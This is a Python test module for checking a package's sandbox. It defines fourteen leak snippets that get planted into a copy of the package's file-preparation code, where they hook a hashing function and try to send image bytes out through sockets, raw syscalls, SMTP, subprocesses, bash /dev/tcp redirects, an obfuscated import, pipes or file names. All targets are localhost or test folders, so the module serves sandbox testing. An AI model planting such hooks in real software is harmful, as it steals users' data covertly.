"""Leaks that are planted into a copy of the package, to see which lock catches each.

Each takes the bytes of a picture where files are opened, the worst place, and tries to bring them out of the process, to
a port, a socket or a folder that the test listens at.
"""

from dataclasses import dataclass
from textwrap import indent
from typing import Final

_AT_EVERY_FILE: Final = """

def _leak(data, path):
{body}

_without_leak = _hash


def _hash(task, backend):
    try:
        _leak(Path(task.path).read_bytes(), str(task.path))
    except BaseException:
        pass
    return _without_leak(task, backend)
"""


@dataclass(frozen=True)
class Plant:
    """One planted leak."""

    body: str
    """What it does with `data`, the bytes of a picture, and `path`, its name."""

    @property
    def code(self) -> str:
        """What is put below `prepare/file.py`."""
        return _AT_EVERY_FILE.format(body=indent(self.body.strip(), "    "))


_PORT = 'int(__import__("os").environ["LEAK_PORT"])'
_FOLDER = '__import__("os").environ["LEAK_FOLDER"]'

PLANTS: Final[dict[str, Plant]] = {
    "a raw system call": Plant(f"""
import ctypes, struct
libc = ctypes.CDLL(None)
number = libc.syscall(41, 2, 1, 0)
address = struct.pack("=HH4s8x", 2, int.from_bytes(({_PORT}).to_bytes(2, "big"), "little"), bytes((127, 0, 0, 1)))
libc.syscall(42, number, address, 16)
libc.syscall(1, number, data, len(data))
libc.syscall(3, number)
"""),
    "a socket": Plant(f"""
import socket
with socket.create_connection(("127.0.0.1", {_PORT})) as out:
    out.sendall(data)
"""),
    "a datagram": Plant(f"""
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.sendto(data[:4000], ("127.0.0.1", {_PORT}))
"""),
    "mail": Plant(f"""
import smtplib
smtplib.SMTP("127.0.0.1", {_PORT}, local_hostname=data[:60].hex(), timeout=2)
"""),
    "asyncio": Plant(f"""
import asyncio
async def send():
    _, writer = await asyncio.open_connection("127.0.0.1", {_PORT})
    writer.write(data)
    await writer.drain()
    writer.close()
asyncio.run(send())
"""),
    "multiprocessing": Plant(f"""
from multiprocessing.connection import Client
Client(("127.0.0.1", {_PORT})).send_bytes(data)
"""),
    "another interpreter": Plant(f"""
import subprocess, sys
program = "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1]))).sendall(sys.stdin.buffer.read())"
subprocess.run([sys.executable, "-c", program, str({_PORT})], input=data, timeout=20)
"""),
    "a shell": Plant(f"""
import os
os.system("exec bash -c 'cat ' < " + path + " > /dev/tcp/127.0.0.1/" + str({_PORT}))
os.system("bash -c 'cat " + path + " > /dev/tcp/127.0.0.1/" + str({_PORT}) + "'")
"""),
    "a module under another name": Plant(f"""
import importlib
with importlib.import_module("soc" + "ket").create_connection(("127.0.0.1", {_PORT})) as out:
    out.sendall(data)
"""),
    "the web": Plant(f"""
__import__("urllib.request").request.urlopen("http://127.0.0.1:" + str({_PORT}), data, timeout=2)
"""),
    "a unix socket": Plant(f"""
import socket
with socket.socket(socket.AF_UNIX) as out:
    out.connect({_FOLDER} + "/socket")
    out.sendall(data)
"""),
    "a file": Plant(f"""
open({_FOLDER} + "/leaked", "wb").write(data)
"""),
    "a named pipe": Plant(f"""
import os
os.write(os.open({_FOLDER} + "/pipe", os.O_WRONLY | os.O_NONBLOCK), data[:4000])
"""),
    "a name of a file": Plant(f"""
import os
os.mkdir({_FOLDER} + "/" + data[:60].hex())
"""),
}
"""By what they use."""
